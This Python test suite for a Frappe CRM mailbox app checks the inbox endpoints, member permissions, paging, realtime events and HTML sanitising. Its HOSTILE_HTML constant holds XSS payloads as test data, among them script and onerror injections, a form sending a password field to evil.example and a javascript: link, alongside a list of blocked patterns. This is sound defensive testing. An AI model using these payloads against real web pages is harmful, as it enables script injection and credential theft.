"""Bench suite: the inbox page's endpoints (queue, counts, conversation, mark_seen) as real members.

Mail goes through Frappe's real receive path; each user has only the roles a member has.
"""

from __future__ import annotations

import email.utils
from datetime import timedelta
from email.message import EmailMessage

import frappe
from frappe.tests.utils import FrappeTestCase
from frappe.utils import now_datetime

from crm_mailbox import testing as t
from crm_mailbox.api import inbox
from crm_mailbox.api import threads as threads_api
from crm_mailbox.mailboxes import testing as mt
from crm_mailbox.threads import ownership

MAILBOX = "CRM Mailbox Test Inbox"
STRANGER = "crm-mbx-inbox-stranger@ourco.example"
HOSTILE_HTML = (
	"<p>Dear team, the quote is <b>attached</b>.</p>"
	"<script>window.__xss=1</script>"
	'<img src=x onerror="window.__xss=1">'
	'<form action="https://evil.example/steal"><input name=pw></form>'
	'<iframe src="https://evil.example/frame"></iframe>'
	'<img src="https://tracker.example/pixel.gif" alt="logo">'
	'<a href="javascript:alert(1)" onclick="alert(1)">click</a>'
	'<p style="background:url(https://tracker.example/bg.gif);color:red">styled</p>'
	"<p>On Mon, 2 Nov 2026, Bob wrote:</p><blockquote>the earlier question</blockquote>"
)


def html_email(sender: str, to: str, subject: str, html: str) -> bytes:
	msg = EmailMessage()
	msg["From"] = sender
	msg["To"] = to
	msg["Subject"] = subject
	msg["Date"] = email.utils.formatdate(localtime=True)
	msg["Message-ID"] = email.utils.make_msgid(domain="test.crm-mailbox.example")
	msg.set_content("plain part")
	msg.add_alternative(html, subtype="html")
	return msg.as_bytes()


class TestInbox(FrappeTestCase):
	@classmethod
	def setUpClass(cls):
		super().setUpClass()
		frappe.set_user("Administrator")
		cls.people = mt.People()
		cls.stranger = mt.make_user(STRANGER, (*mt.MAIL_ROLES, "Sales User"))
		cls.clean_up()
		cls.box = mt.team_mailbox(
			cls.people,
			name=MAILBOX,
			crm_owner_strategy="Fixed user",
			crm_fixed_owner=cls.people.proc1,
		)
		mt.fresh_settings()

	@classmethod
	def clean_up(cls):
		"""Threads of this suite's mailbox from earlier runs (Frappe's receive commits each email)."""
		threads = frappe.get_all(ownership.THREAD, filters={"email_account": MAILBOX}, pluck="name")
		for mail in frappe.get_all("Communication", filters={"email_account": MAILBOX}, pluck="name"):
			frappe.delete_doc("Communication", mail, force=True, ignore_permissions=True)
		for thread in threads:
			if frappe.db.exists(ownership.THREAD, thread):
				frappe.delete_doc(ownership.THREAD, thread, force=True, ignore_permissions=True)
		# the web server (another process) and the realtime queue see committed data only
		frappe.db.commit()  # nosemgrep

	@classmethod
	def tearDownClass(cls):
		frappe.set_user("Administrator")
		cls.clean_up()
		super().tearDownClass()

	def setUp(self):
		frappe.set_user("Administrator")
		mt.fresh_settings()

	def tearDown(self):
		frappe.set_user("Administrator")

	def receive(self, subject="Quote please", html=None, sender=None):
		sender = sender or t.unique_address("customer")
		raw = (
			html_email(sender, self.box.email_id, subject, html)
			if html
			else t.build_email(sender, to=self.box.email_id, subject=subject)
		)
		(mail,) = t.receive(self.box, raw)
		self.assertIsNotNone(mail, "the email was not saved")
		thread = ownership.thread_of(mail.name)
		self.assertTrue(thread, "the email has no thread")
		return mail, thread

	def queue_names(self, user, filter="open", mailbox=MAILBOX, **kwargs) -> list[str]:
		frappe.set_user(user)
		try:
			return [row["name"] for row in inbox.queue(filter=filter, mailbox=mailbox, **kwargs)["threads"]]
		finally:
			frappe.set_user("Administrator")

	def test_members_see_their_mailbox_threads_and_a_non_member_sees_none(self):
		mail, thread = self.receive()
		self.assertIn(thread, self.queue_names(self.people.proc1))
		self.assertIn(thread, self.queue_names(self.people.reader))
		for filter in inbox.threads.FILTERS:
			self.assertNotIn(thread, self.queue_names(self.stranger, filter=filter, mailbox=None))
		frappe.set_user(self.stranger)
		self.assertRaises(frappe.PermissionError, inbox.conversation, thread)
		self.assertRaises(frappe.PermissionError, inbox.mark_seen, thread)
		self.assertRaises(frappe.PermissionError, inbox.queue, "open", MAILBOX)
		self.assertNotIn(MAILBOX, inbox.counts()["mailboxes"])

	def test_each_filter_returns_its_threads(self):
		_m, mine = self.receive()
		_m, unassigned = self.receive()
		frappe.db.set_value(ownership.THREAD, unassigned, "thread_owner", None)
		_m, late = self.receive()
		frappe.db.set_value(ownership.THREAD, late, "due_at", now_datetime() - timedelta(hours=1))
		_m, answered = self.receive()
		ownership.set_work_status(answered, ownership.WAITING_ON_CUSTOMER)
		_m, finished = self.receive()
		ownership.set_work_status(finished, ownership.DONE)

		proc1 = self.people.proc1
		self.assertTrue({mine, late} <= set(self.queue_names(proc1, "mine")))
		self.assertFalse({unassigned, answered, finished} & set(self.queue_names(proc1, "mine")))
		self.assertNotIn(mine, self.queue_names(self.people.proc2, "mine"))
		self.assertIn(unassigned, self.queue_names(proc1, "unassigned"))
		self.assertNotIn(mine, self.queue_names(proc1, "unassigned"))
		self.assertIn(late, self.queue_names(proc1, "overdue"))
		self.assertNotIn(mine, self.queue_names(proc1, "overdue"))
		self.assertEqual({answered} & set(self.queue_names(proc1, "waiting_on_customer")), {answered})
		self.assertNotIn(answered, self.queue_names(proc1, "waiting_on_us"))
		self.assertIn(finished, self.queue_names(proc1, "done"))
		self.assertNotIn(finished, self.queue_names(proc1, "open"))

	def test_counts_match_the_queue(self):
		_m, a = self.receive()
		_m, b = self.receive()
		frappe.db.set_value(ownership.THREAD, b, "due_at", now_datetime() - timedelta(hours=1))
		_m, c = self.receive()
		frappe.db.set_value(ownership.THREAD, c, "thread_owner", None)
		_m, d = self.receive()
		ownership.set_work_status(d, ownership.WAITING_ON_CUSTOMER)

		frappe.set_user(self.people.proc1)
		answer = inbox.counts(mailbox=MAILBOX)
		frappe.set_user("Administrator")
		expected = {
			key: len(self.queue_names(self.people.proc1, key, page_length=100))
			for key in ("mine", "overdue", "unassigned", "waiting_on_customer")
		}
		self.assertEqual(answer["total"], expected)
		self.assertEqual(answer["mailboxes"][MAILBOX], expected)
		self.assertGreaterEqual(expected["mine"], 2)  # a and b at least
		self.assertGreaterEqual(expected["overdue"], 1)
		self.assertGreaterEqual(expected["unassigned"], 1)
		self.assertGreaterEqual(expected["waiting_on_customer"], 1)

		# the next email for proc1 counts at once
		self.receive()
		frappe.set_user(self.people.proc1)
		self.assertEqual(inbox.counts(mailbox=MAILBOX)["total"]["mine"], expected["mine"] + 1)

	def test_conversation_sanitises_a_hostile_body_and_keeps_its_text(self):
		mail, thread = self.receive(subject="Hostile <b>quote</b>", html=HOSTILE_HTML)
		frappe.set_user(self.people.reader)
		answer = inbox.conversation(thread)
		(message,) = [m for m in answer["messages"] if m["name"] == mail.name]
		shown = (message["html"] + message["quoted_html"]).lower()
		for bad in (
			"<script",
			"onerror",
			"onclick",
			"<form",
			"<input",
			"<iframe",
			"javascript:",
			"url(",
		):
			self.assertNotIn(bad, shown, bad)
		self.assertNotIn(' src="https://tracker.example', shown)
		self.assertIn('data-remote-src="https://tracker.example/pixel.gif"', message["html"])
		self.assertTrue(message["has_remote_images"])
		self.assertIn("Dear team, the quote is <b>attached</b>.", message["html"])
		self.assertIn("styled", message["html"])
		# quoted history apart, to be collapsed
		self.assertNotIn("the earlier question", message["html"])
		self.assertIn("the earlier question", message["quoted_html"])
		# images on request, still without scripts
		shown = inbox.conversation(thread, show_images=1)["messages"]
		(message,) = [m for m in shown if m["name"] == mail.name]
		self.assertIn('src="https://tracker.example/pixel.gif"', message["html"])
		self.assertNotIn("onerror", message["html"])
		# the reply target quotes the sanitised body, never the raw one
		self.assertNotIn("<script", answer["reply_to"]["content"])

	def test_raw_hostile_markup_never_survives_sanitising(self):
		# Frappe's intake escapes some of it already; the inbox must not depend on that
		from crm_mailbox.inbox import bodies

		answer = bodies.render(HOSTILE_HTML)
		shown = (answer["html"] + answer["quoted_html"]).lower()
		for bad in (
			"<script",
			"__xss",
			"onerror",
			"onclick",
			"<form",
			"<input",
			"<iframe",
			"javascript:",
			"url(",
		):
			self.assertNotIn(bad, shown, bad)
		self.assertIn("the quote is <b>attached</b>", answer["html"])
		self.assertIn("the earlier question", answer["quoted_html"])

	def test_conversation_lists_emails_and_notes_in_order(self):
		mail, thread = self.receive()
		frappe.set_user(self.people.proc1)
		note = threads_api.add_note(mail.name, "Call them <b>first</b>")
		frappe.set_user("Administrator")
		(reply,) = t.receive(
			self.box,
			t.build_email(
				mail.sender, to=self.box.email_id, subject="Re: Quote please", in_reply_to=mail.message_id
			),
		)
		# mail dates have whole seconds: space the three out as they would be in a day's work
		sent_at = frappe.db.get_value("Communication", mail.name, "communication_date")
		frappe.db.set_value(
			"Comment", note, "creation", sent_at + timedelta(minutes=1), update_modified=False
		)
		frappe.db.set_value(
			"Communication",
			reply.name,
			"communication_date",
			sent_at + timedelta(minutes=2),
			update_modified=False,
		)
		frappe.set_user(self.people.reader)
		items = inbox.conversation(thread)["messages"]
		self.assertEqual([i["kind"] for i in items], ["email", "note", "email"])
		self.assertEqual(items[0]["name"], mail.name)
		self.assertEqual(items[2]["name"], reply.name)
		self.assertIn("Call them &lt;b&gt;first&lt;/b&gt;", items[1]["html"])

	def test_actions_offered_follow_permissions(self):
		_mail, thread = self.receive()
		frappe.set_user(self.people.proc1)
		can = inbox.conversation(thread)["can"]
		self.assertTrue(can["assign"] and can["done"] and can["reply"] and can["note"])
		frappe.set_user(self.people.reader)
		can = inbox.conversation(thread)["can"]
		self.assertFalse(can["assign"] or can["done"] or can["ignore"])
		self.assertTrue(can["note"])
		# what the server refuses is not offered
		self.assertRaises(frappe.PermissionError, threads_api.set_status, thread, ownership.DONE)

	def test_unread_until_seen_and_again_after_new_mail(self):
		mail, thread = self.receive()

		def unread() -> bool:
			frappe.set_user(self.people.proc1)
			rows = inbox.queue(filter="mine", mailbox=MAILBOX, page_length=100)["threads"]
			frappe.set_user("Administrator")
			return next(row["unread"] for row in rows if row["name"] == thread)

		self.assertTrue(unread())
		frappe.set_user(self.people.proc1)
		inbox.mark_seen(thread)
		inbox.mark_seen(thread)  # twice: still one row
		frappe.set_user("Administrator")
		self.assertFalse(unread())
		self.assertEqual(
			frappe.db.count("Mailbox Thread Seen", {"thread": thread, "user": self.people.proc1}), 1
		)
		frappe.db.set_value(
			"Mailbox Thread Seen",
			{"thread": thread, "user": self.people.proc1},
			"seen_at",
			now_datetime() - timedelta(minutes=5),
		)
		t.receive(
			self.box,
			t.build_email(
				mail.sender, to=self.box.email_id, subject="Re: Quote please", in_reply_to=mail.message_id
			),
		)
		self.assertTrue(unread())

	def test_rows_carry_sender_snippet_owner_and_party(self):
		customer = t.make_customer(domains=[t.random_domain()])
		domain = frappe.get_all("Customer Email Domain", filters={"parent": customer.name}, pluck="domain")[0]
		sender = t.unique_address("buyer", domain)
		_mail, thread = self.receive(html="<p>Please send <b>40 units</b> by Friday.</p>", sender=sender)
		frappe.set_user(self.people.proc1)
		(row,) = [
			r
			for r in inbox.queue(filter="mine", mailbox=MAILBOX, page_length=100)["threads"]
			if r["name"] == thread
		]
		self.assertEqual(row["sender"], sender)
		self.assertEqual(row["snippet"], "Please send 40 units by Friday.")
		self.assertEqual(row["owner"], self.people.proc1)
		self.assertTrue(row["owner_name"])
		self.assertEqual(row["party"], {"doctype": "Customer", "name": customer.name})

	def test_paging_is_stable_when_threads_change_meanwhile(self):
		made = [self.receive()[1] for _ in range(5)]
		everything = self.queue_names(self.people.proc1, "mine", page_length=100)
		frappe.set_user(self.people.proc1)
		first = inbox.queue(filter="mine", mailbox=MAILBOX, page_length=2)
		frappe.set_user("Administrator")
		self.assertEqual([r["name"] for r in first["threads"]], everything[:2])
		self.assertTrue(first["next"])
		# a thread of the first page changes (new activity moves it to the top): no repeat, no gap after
		frappe.db.set_value(ownership.THREAD, everything[0], "message_count", 7)
		seen, cursor = [r["name"] for r in first["threads"]], first["next"]
		while cursor:
			frappe.set_user(self.people.proc1)
			page = inbox.queue(filter="mine", mailbox=MAILBOX, page_length=2, after=cursor)
			frappe.set_user("Administrator")
			seen += [r["name"] for r in page["threads"]]
			cursor = page["next"]
		self.assertEqual(seen, everything)
		self.assertTrue(set(made) <= set(seen))

	def test_members_and_only_members_hear_of_new_mail_and_changes(self):
		from unittest.mock import patch

		from frappe.realtime import get_user_room

		from crm_mailbox.inbox.realtime import EVENT

		sent: list[tuple[str, dict, str]] = []
		members = {get_user_room(u) for u in (self.people.proc1, self.people.proc2, self.people.reader)}

		def rooms() -> set[str]:
			return {room for event, message, room in sent if event == EVENT}

		# what would go to redis (and on to the browsers), recorded after the commit
		with patch("frappe.realtime.emit_via_redis", side_effect=lambda *args: sent.append(args)):
			_mail, thread = self.receive()  # Frappe's receive commits each email
			self.assertTrue(members <= rooms(), "new mail: a member was not told")
			self.assertNotIn(get_user_room(self.stranger), rooms())
			self.assertTrue(all(room.startswith("user:") for room in rooms()), "an event left the user rooms")

			sent.clear()
			ownership.set_work_status(thread, ownership.DONE)
			# the web server (another process) and the realtime queue see committed data only
			frappe.db.commit()  # nosemgrep
			self.assertTrue(members <= rooms(), "a status change: a member was not told")
			self.assertNotIn(get_user_room(self.stranger), rooms())

	def test_a_thread_whose_last_time_matches_no_email_still_shows_a_snippet(self):
		_mail, thread = self.receive(html="<p>Where is my order?</p>")
		# e.g. only automated mail since, or a date corrected by hand
		frappe.db.set_value(
			ownership.THREAD, thread, "last_incoming_at", now_datetime() + timedelta(minutes=3)
		)
		frappe.set_user(self.people.proc1)
		rows = inbox.queue(filter="mine", mailbox=MAILBOX, page_length=100)["threads"]
		(row,) = [r for r in rows if r["name"] == thread]
		self.assertEqual(row["snippet"], "Where is my order?")
